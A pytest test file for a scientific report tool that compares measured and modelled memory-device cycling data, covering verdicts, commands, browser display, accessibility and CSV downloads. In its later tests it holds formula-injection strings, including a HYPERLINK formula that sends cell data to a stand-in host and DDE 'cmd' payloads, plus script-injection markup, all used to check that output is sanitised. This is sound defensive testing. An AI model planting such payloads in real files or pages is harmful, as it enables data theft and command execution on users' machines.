"""The report: what it says, and how a reader finds, reads, prints and downloads it."""

import csv
import io
import json
import re
import subprocess
import sys
import urllib.parse
import urllib.request

import loop_generator
import numpy as np
import pytest
from browser import chromium
from typer.testing import CliRunner

import synfab as sf
from synfab import learn
from synfab.cli.app import app
from synfab.learn.comparison.compare import loop_features
from synfab.learn.comparison.loops import MAX_DEVICES, chosen_devices, measured_loops
from synfab.report import save_report
from synfab.report.sample import switching_marks

pytest.importorskip("bokeh")


def run(*arguments):
    return CliRunner().invoke(app, [str(a) for a in arguments], catch_exceptions=False)


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    with chromium(tmp_path_factory.mktemp("profile")) as page:
        yield page


@pytest.fixture
def page(browser, path):
    browser.open(path.as_uri())
    browser.wait("return document.documentElement.dataset.ready === 'all'")
    return browser


# ---- what it says ---------------------------------------------------------------------------


def test_a_property_is_judged_by_the_measurement_s_own_halves(found):
    for v in found.verdicts():
        expected = "near" if v.distance > v.yardstick else "good"
        if not v.yardstick < 0.5:
            expected = "open"
        if v.distance > 2.0 * v.yardstick:
            expected = "far"
        if v.name.startswith("Distribution") and "but the" in v.quantity:
            expected = "near"
        assert v.level == expected, v
    assert found.headline().endswith(".")


def test_a_wrong_model_differs(published, sweeps):
    table = learn.extract_features(sweeps)
    values = table.values.copy()
    values[:, 1] -= 0.5  # volts
    names = np.asarray(table.names)[table.device]
    wrong = learn.FeatureTable.build(names, table.cycle, values)
    judged = {v.name: v for v in learn.compare(published, wrong).verdicts()}
    assert judged["Distribution of U_SET"].level == "far"
    assert judged["Distribution of U_SET"].words == "differs"


def one_device(published, cycles):
    cells = sf.CellArray(published, 1, seed=1)
    rows = []
    for _ in range(cycles):
        rows.append([cells.features[name][0] for name in sf.FEATURES])
        cells.apply_voltage(-2.0).apply_voltage(1.5)
    return learn.FeatureTable.build(np.zeros(cycles, int), np.arange(cycles), rows)


def test_one_device_leaves_the_devices_unjudged(published):
    judged = {v.name: v for v in learn.compare(published, one_device(published, 60)).verdicts()}
    for name in ("Correlations between devices", "Outlying devices", "Deaths",
                 "First cycles of R_LRS", "Spread of R_LRS between devices"):  # fmt: skip
        assert judged[name].words == "cannot be judged"


@pytest.mark.parametrize("cycles", [10, 20, 39])
def test_a_short_record_of_one_device_cannot_judge_its_memory(published, cycles):
    found = learn.compare(published, one_device(published, cycles))
    judged = [v for v in found.verdicts() if v.name.startswith("Memory")]
    assert {v.words for v in judged} == {"cannot be judged"}
    assert "cannot be judged" in found.headline()


def test_the_page_states_where_every_number_comes_from(found, path, tmp_path, published):
    text = path.read_text()
    facts = (published.fingerprint, found.data_sha256, sf.__version__, np.__version__)
    assert all(fact in text for fact in facts)
    file = tmp_path / "cycling.csv"
    file.write_text("measured\n")
    save_report(found, tmp_path / "r.html", files={"measurement": file})
    digest = subprocess.run(["sha256sum", file], capture_output=True, text=True, check=True).stdout
    assert digest.split()[0] in (tmp_path / "r.html").read_text()


def test_text_from_files_cannot_become_markup(published, tmp_path):
    model = sf.CellModel(
        "</script><b id=evil>", published.marginals, published.histories, published.population,
        published.conduction,
    )  # fmt: skip
    cells = sf.CellArray(published, 4, seed=1)
    values = [np.stack([cells.features[n] for n in sf.FEATURES], 1) for _ in range(12)]
    device = np.tile(["a", "<i id=evil>", "c", "d"], 12)
    values = np.concatenate(values) * np.linspace(1.0, 1.1, 48)[:, None]
    table = learn.FeatureTable.build(device, np.repeat(np.arange(12), 4), values)
    save_report(learn.compare(model, table), tmp_path / "r.html")
    text = (tmp_path / "r.html").read_text()
    assert "<b id=evil>" not in text
    assert "<i id=evil>" not in text


def test_loops_of_other_devices_are_refused(found, tmp_path):
    voltage = np.interp(np.linspace(0, 4, 41), range(5), [0.0, -1.5, 0.0, 1.5, 0.0])
    others = learn.sweeps_from_arrays(voltage, np.tile(voltage / 1e4, (3, 1)), ("other",))
    with pytest.raises(sf.InvalidValueError, match="sweeps: no loops of device device 0"):
        save_report(found, tmp_path / "r.html", sweeps=others)
    assert not list(tmp_path.iterdir())


def test_many_devices_are_thinned_first_and_last_kept():
    chosen = chosen_devices(512)
    assert len(chosen) == MAX_DEVICES
    assert chosen[0] == 0
    assert chosen[-1] == 511


def test_long_loops_keep_the_points_where_the_voltage_turns():
    voltage = np.concatenate([np.linspace(0, -1.7, 977), np.linspace(-1.7, 1.9, 977)])
    voltage = np.concatenate([voltage, np.linspace(1.9, 0.0, 977)])
    conductance = np.where(np.arange(len(voltage)) // 977 == 1, 2e-4, 1e-4)  # in LRS on the way up
    sweeps = learn.sweeps_from_arrays(voltage, np.tile(voltage * conductance, (3, 1)), ("a",))
    loops = measured_loops(sweeps, ["a"], 10)["a"]
    assert loops.voltage.shape[1] <= 160
    assert np.nanmin(loops.voltage) == -1.7
    assert np.nanmax(loops.voltage) == 1.9


# ---- the commands -----------------------------------------------------------------------------


def test_fit_and_compare_write_a_report(sweeps, tmp_path):
    rows = [
        f"{d.name},{cycle},{v:.4f},{i:.6e}"
        for d in sweeps.devices()
        for k, cycle in enumerate(d.cycles)
        for v, i in zip(
            d.voltage[d.offsets[k] : d.offsets[k + 1]],
            d.current[d.offsets[k] : d.offsets[k + 1]],
            strict=True,
        )
    ]
    source = tmp_path / "cycling.csv"
    source.write_text("device,cycle,voltage,current\n" + "\n".join(rows) + "\n")
    model, first, second = tmp_path / "m.json", tmp_path / "fit.html", tmp_path / "compare.html"
    done = run("fit", source, "-o", model, "--order", "1", "--report", first, "--json")
    assert done.exit_code == 0
    assert json.loads(done.stdout)["report"] == str(first)
    assert "How it was learned" in first.read_text()
    done = run("compare", model, source, "--report", second)
    assert done.exit_code == 0
    assert "agree with the measurement" in " ".join(done.output.split())
    assert "How it was learned" not in second.read_text()


@pytest.mark.parametrize(
    ("name", "message"),
    [("page.pdf", "--report: expected a name ending in .html"), ("none/p.html", "--report: ")],
)
def test_a_bad_name_is_refused_before_the_work(tmp_path, name, message):
    with pytest.raises(sf.InvalidValueError, match=message):
        run("compare", "published", "none.csv", "--report", tmp_path / name)
    assert not list(tmp_path.iterdir())


def test_a_missing_bokeh_is_one_line_with_its_cure(tmp_path):
    code = (
        "import sys; sys.modules['bokeh'] = None\n"
        "from synfab.cli.app import main\n"
        "sys.argv = ['synfab', 'compare', 'published', 'none.csv', '--report', 'r.html']\n"
        "main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=False, cwd=tmp_path
    )
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert 'pip install "synfab[report]"' in done.stderr


# ---- in a browser -----------------------------------------------------------------------------


def test_the_page_loads_nothing_and_complains_of_nothing(page, path):
    assert page.requests() == [path.as_uri()]
    assert page.complaints() == []


def test_every_figure_is_drawn(page):
    page.run("document.querySelector('#memory details').open = true")
    page.wait("return document.documentElement.dataset.aside === 'ready'")
    empty = page.run(
        "return [...document.querySelectorAll('.plot')]"
        ".filter((p) => !p.firstElementChild?.shadowRoot?.childElementCount).map((p) => p.id)"
    )
    assert empty == []
    assert page.run("return document.querySelectorAll('.plot').length") == 1 + 4 * 4 + 16


def test_what_is_in_the_window_is_drawn_before_the_rest(browser, path):
    browser.open(path.as_uri())
    count = """
        const drawn = [...document.querySelectorAll('.plot')].filter((p) => p.firstElementChild);
        return document.documentElement.dataset.ready ? drawn.length : 0"""
    begun = browser.wait(count)
    browser.wait("return document.documentElement.dataset.ready === 'all'")
    marks = browser.run(
        "return ['view', 'all'].map((m) => performance.getEntriesByName(m)[0].startTime)"
    )
    assert marks[0] < marks[1]
    assert begun <= browser.run(count)


def test_a_figure_that_is_drawn_late_shows_the_device_that_was_picked(browser, path):
    browser.open(path.as_uri())
    # Before anything is drawn: the page's own script has just run.
    browser.run(
        "const p = document.getElementById('device'); p.value = '5';"
        "p.dispatchEvent(new Event('change'))"
    )
    browser.wait("return document.documentElement.dataset.ready === 'all'")
    medians = browser.run(
        "return Bokeh.documents.flatMap((d) => d.get_model_by_name('series-measured') ?? [])"
        ".map((s) => s.data.median_2[0])"
    )
    expected = browser.run(
        "const c = JSON.parse(document.getElementById('columns').textContent);"
        "const b = Uint8Array.from(atob(c['series-measured'][5].median_2), (x) => x.charCodeAt(0));"
        "return new Float32Array(b.buffer)[0]"
    )
    assert medians == [expected] * 4


SHOWN = """
for (const d of Bokeh.documents) {
  const s = d.get_model_by_name(arguments[0]);
  if (s) return [...s.data[arguments[1]]].map((x) => Number.isFinite(x) ? x : null);
}
"""


def test_the_picker_shows_another_device(page, sweeps):
    picker = page.driver.find_element("id", "device")
    picker.send_keys("device 7")
    page.wait("return document.getElementById('picked').textContent.includes('device 7')")
    loops = measured_loops(sweeps, ["device 7"], 10)["device 7"]
    shown = np.array(page.run(SHOWN, "loops-measured", "current"), float)
    np.testing.assert_allclose(
        shown[np.isfinite(shown)], 1e6 * loops.current.ravel(), rtol=1e-5, atol=1e-4
    )
    assert len(page.run(SHOWN, "loops-generated", "current")) == len(shown)


def test_hovering_tells_values(page):
    page.hover_over("#distribution-2 > *", 0.6, 0.75)
    text = page.wait("return true") and _until(page.tooltip)
    assert re.search(r"from:? .*to:? .*measured:? .*generated", text), text


def _until(ask, times=40):
    import time

    for _ in range(times):
        answer = ask()
        if answer:
            return answer
        time.sleep(0.05)
    return ""


def test_tables_can_be_downloaded(page, found):
    links = page.run(
        "return Object.fromEntries([...document.querySelectorAll('#download a[download]')]"
        ".map((a) => [a.download, a.href]))"
    )
    assert set(links) == {"verdicts.csv", "distributions.csv", "quantiles.csv", "memory.csv",
                          "devices.csv", "device.csv"}  # fmt: skip
    with urllib.request.urlopen(links["devices.csv"]) as response:
        rows = list(csv.DictReader(io.TextIOWrapper(response)))
    mean = {r["device"]: float(r["measured_mean"]) for r in rows if r["panel"] == "R_LRS"}
    assert list(mean) == [f"device {k}" for k in range(12)]  # in natural order
    expected = [y[:, 2].mean() for _, y in found.measured.devices]
    np.testing.assert_allclose([mean[name] for name in found.names], expected, rtol=1e-5)
    page.run(
        "const a = document.getElementById('device-table');"
        "a.addEventListener('click', (e) => e.preventDefault()); a.click()"
    )
    address = page.run("return document.getElementById('device-table').href")
    lines = urllib.parse.unquote(address).split("\n")
    assert sum(line.startswith('loops-measured,"device 0"') for line in lines) == 10 * 101


# Each is what spreadsheets run, or what breaks a line of CSV; the first device is picked.
HOSTILE = ['=HYPERLINK("http://evil.test?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0",
           "+1+cmd|'x'", "-1+cmd|'x'", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", 'a"b,c\nd',
           "</script><script>window.owned = 1</script>", "-5", "plain"]  # fmt: skip


@pytest.fixture(scope="module")
def hostile(published, sweeps, tmp_path_factory):
    """A report on devices whose names are hostile."""
    cells = sf.CellArray(published, len(HOSTILE), seed=5)
    voltage = np.interp(np.linspace(0, 4, 101), range(5), [0.0, -1.5, 0.0, 1.5, 0.0])
    currents = np.array(
        [[cells.apply_voltage(u).read(u, bandwidth=1e6) for u in voltage] for _ in range(12)]
    )
    sweeps = learn.sweeps_from_arrays(voltage, currents.transpose(2, 0, 1), tuple(HOSTILE))
    path = tmp_path_factory.mktemp("hostile") / "report.html"
    found = learn.compare(published, learn.extract_features(sweeps), seed=3)
    save_report(found, path, sweeps=sweeps)
    return path


def harmless(cell):
    """Whether a spreadsheet takes a cell for text or a plain number."""
    try:
        float(cell)
    except ValueError:
        return not re.match(r"\s*[=+\-@\uff1d]", cell) and cell[:1] not in {"\t", "\r", "\n"}
    return True


def test_downloads_cannot_run_formulas_and_are_csv(browser, hostile):
    browser.open(hostile.as_uri())
    browser.wait("return document.documentElement.dataset.ready === 'all'")
    assert browser.run("return window.owned") is None
    names = browser.run("return JSON.parse(document.getElementById('offered').textContent).names")
    assert set(names) == set(HOSTILE)
    browser.run(
        "document.getElementById('device-table')"
        ".addEventListener('click', (e) => e.preventDefault())"
    )
    for k, name in enumerate(names):
        address = browser.run(
            "document.getElementById('device').value = arguments[0];"
            "const a = document.getElementById('device-table'); a.click(); return a.href", str(k)
        )  # fmt: skip
        text = urllib.parse.unquote(address.removeprefix("data:text/csv;charset=utf-8,"))
        rows = list(csv.reader(io.StringIO(text, newline="")))
        data = [row for row in rows if row[0] != "table"]
        assert {row[1].removeprefix("'") for row in data} == {name}
        assert all(harmless(cell) for row in rows for cell in row)
        assert any(float(cell) < 0 for row in data for cell in row[2:])
    links = browser.run(
        "return [...document.querySelectorAll('#download a[download][href*=base64]')]"
        ".map((a) => a.href)"
    )
    for link in links:
        with urllib.request.urlopen(link) as response:
            rows = list(csv.reader(io.TextIOWrapper(response, newline="")))
        assert all(harmless(cell) for row in rows for cell in row)
        assert len({len(row) for row in rows}) == 1


def test_the_page_can_be_read_without_seeing_it(page, found):
    """Landmarks, names, headings, contrast: every rule of axe-core for WCAG A and AA."""
    page.run("document.querySelectorAll('details').forEach((d) => { d.open = true })")
    page.wait("return document.documentElement.dataset.aside === 'ready'")
    assert page.accessibility() == []
    shapes = page.run(
        "return [...document.querySelectorAll('td.verdict svg')]"
        ".map((s) => s.getAttribute('aria-label') === s.parentElement.textContent.trim())"
    )
    assert len(shapes) == len(found.verdicts())
    assert all(shapes)


def test_the_keyboard_reaches_the_summary_and_the_picker(page):
    from selenium.webdriver import ActionChains, Keys

    reached = []
    for _ in range(30):
        ActionChains(page.driver).send_keys(Keys.TAB).perform()
        reached.append(page.run("return document.activeElement.id || "
                                "document.activeElement.className"))  # fmt: skip
    assert reached[0] == "skip"
    assert "device" in reached


def test_a_narrow_window_shows_both_loops_without_scrolling_sideways(browser, path):
    size = {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True}
    browser.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    try:
        browser.open(path.as_uri())
        browser.wait("return document.documentElement.dataset.ready === 'all'")
        wide = browser.run(
            "return [document.documentElement, ...document.querySelectorAll('figure')]"
            ".filter((e) => e.scrollWidth > e.clientWidth).map((e) => e.id || e.tagName)"
        )
        height = browser.run("return document.getElementById('loops').offsetHeight")
    finally:
        browser.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    assert wide == []
    assert height > 2 * 360  # one below the other


def test_it_prints_in_full(page):
    import base64

    printed = page.driver.execute_cdp_cmd("Page.printToPDF", {"preferCSSPageSize": True})
    pages = base64.b64decode(printed["data"]).count(b"/Type /Page\n")
    assert 2 <= pages <= 6


def test_the_features_are_drawn_on_the_measured_loops(published):
    """SET and RESET of each loop with features, where the way out has that voltage."""

    made = loop_generator.made_loops(cycles=24, limit=1e-4)
    current = made.current.copy()
    current[0] = made.voltage[0] / 5e3  # does not switch, so nothing is drawn on it
    sweeps = learn.sweeps_from_arrays(made.voltage, current)
    found = learn.compare(published, learn.extract_features(sweeps))
    loops = measured_loops(sweeps, ["0"], 10)["0"]
    marks = switching_marks(loops, *loop_features(found, 0))
    assert set(marks["set"].loop) == set(range(2, 11))
    cycles = loops.cycle[marks["set"].loop.astype(int) - 1].astype(int)
    np.testing.assert_allclose(marks["set"].voltage, made.true[cycles, 1], atol=0.025)
    np.testing.assert_allclose(marks["reset"].voltage, made.true[cycles, 3], atol=0.025)
    assert (marks["set"].current < 0).all()
    assert (marks["reset"].current > 1e-4).all()
